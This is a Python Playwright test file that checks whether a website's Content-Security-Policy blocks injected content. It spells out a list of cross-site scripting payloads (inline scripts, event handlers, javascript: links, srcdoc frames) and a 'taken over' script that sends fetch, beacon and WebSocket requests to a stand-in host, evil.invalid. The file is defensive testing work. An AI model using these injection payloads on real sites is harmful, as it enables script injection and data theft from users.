"""Scripts and requests injected into a page are blocked by its policy; without it they run."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
from playwright.sync_api import Browser

from tests.browser.server import serving

pytestmark = pytest.mark.browser
EVIL = "http://evil.invalid/"
META = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
PAGES = ("index.html", "terms/si-ge-yi-shi.html", "speeches/2020-xian-cong-yan-zhi-dang.html")
ATTACKS = {
    "inline script": "<script>fired.push('inline')</script>",
    "handler": "<img src='nothing.png' alt='' onerror=\"fired.push('handler')\">",
    "svg handler": "<svg onload=\"fired.push('svg')\"></svg>",
    "link": "<a id='attack' href=\"javascript:fired.push('link')\">x</a>",
    "data script": "<script src=\"data:text/javascript,fired.push('data')\"></script>",
    "frame": "<iframe srcdoc=\"<script>parent.fired.push('frame')</script>\"></iframe>",
    "base": f"<base href='{EVIL}base/'>",
    "script": f"<script src='{EVIL}script.js'></script>",
    "module": f"<script type='module' src='{EVIL}module.js'></script>",
    "picture": f"<img src='{EVIL}picture.png' alt=''>",
    "style": f"<link rel='stylesheet' href='{EVIL}style.css'>",
    "import": f"<style>@import url('{EVIL}import.css')</style>",
    "film": f"<video src='{EVIL}film.mp4'></video>",
    "framed": f"<iframe src='{EVIL}framed.html'></iframe>",
    "object": f"<object type='text/html' data='{EVIL}object.html'></object>",
    "form": f"<form id='form' action='{EVIL}form'><input name='q'></form>",
}
# One of the site's own scripts, as if it had been taken over.  Not at once: what a test evaluates
# may use eval whatever the policy says.
TAKEN_OVER = f"""window.fired = [];
window.strike = () => setTimeout(() => {{
  const attempts = [
    () => fetch('{EVIL}fetch').catch(() => 0),
    () => {{ const xhr = new XMLHttpRequest(); xhr.open('GET', '{EVIL}xhr'); xhr.send(); }},
    () => navigator.sendBeacon('{EVIL}beacon'),
    () => new WebSocket('ws://evil.invalid/socket'),
    () => eval("fired.push('eval')"),
    () => setTimeout("fired.push('timer')"),
  ];
  for (const attempt of attempts) try {{ attempt(); }} catch (error) {{ /* refused */ }}
}});"""


@pytest.fixture(scope="module")
def attacked(file_root: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site with attacks in three of its pages, each with the policy and (`open-`) without."""
    site = tmp_path_factory.mktemp("attacked") / "site"
    shutil.copytree(unquote(urlsplit(file_root).path), site)
    (site / "assets/taken.js").write_text(TAKEN_OVER, encoding="utf-8")
    for name in PAGES:
        text = (site / name).read_text(encoding="utf-8")
        up = "../" * name.count("/")
        head = f'<script src="{up}assets/taken.js"></script>'
        text = text.replace("</body>", head + "".join(ATTACKS.values()) + "</body>")
        (site / name).write_text(text, encoding="utf-8")
        opened, metas = META.subn("", text)
        assert metas == 1
        (site / name).with_name(f"open-{Path(name).name}").write_text(opened, encoding="utf-8")
    return site


@pytest.fixture(scope="module")
def places(attacked: Path) -> Iterator[dict[str, str]]:
    """The attacked site's address over http and as a folder."""
    with serving(attacked) as address:
        yield {
            "http": address,
            "file": attacked.as_uri() + "/",
        }


def suffered(browser: Browser, address: str) -> tuple[set[str], set[str]]:
    """Which attacks ran, and what was asked of the attacker's host."""
    context = browser.new_context()
    asked: set[str] = set()

    def answer(route: object) -> None:
        asked.add(urlsplit(route.request.url).path.rpartition("/")[2])  # type: ignore[attr-defined]
        route.fulfill(body="fired.push('loaded')", content_type="text/javascript")  # type: ignore[attr-defined]

    context.route(EVIL + "**", answer)
    page = context.new_page()
    page.goto(address)
    page.wait_for_timeout(300)
    page.evaluate("document.getElementById('attack').click()")
    page.evaluate("strike()")
    page.wait_for_timeout(300)
    fired = set(page.evaluate("window.fired"))
    page.evaluate("document.getElementById('form').submit()")
    page.wait_for_timeout(300)
    context.close()
    return fired, asked


@pytest.mark.parametrize("kind", ["http", "file"])
@pytest.mark.parametrize("name", PAGES)
def test_nothing_that_is_slipped_in_runs_or_calls_out(
    browser: Browser, places: dict[str, str], kind: str, name: str
) -> None:
    assert suffered(browser, places[kind] + name) == (set(), set())


@pytest.mark.parametrize("kind", ["http", "file"])
def test_without_the_policy_every_attack_would_have_come_through(
    browser: Browser, places: dict[str, str], kind: str
) -> None:
    fired, asked = suffered(browser, places[kind] + "open-index.html")
    assert {"inline", "handler", "svg", "link", "data", "frame", "eval", "timer", "loaded"} <= fired
    assert {"script.js", "picture.png", "style.css", "import.css", "film.mp4"} <= asked
    assert {"framed.html", "object.html", "fetch", "xhr", "beacon", "form"} <= asked
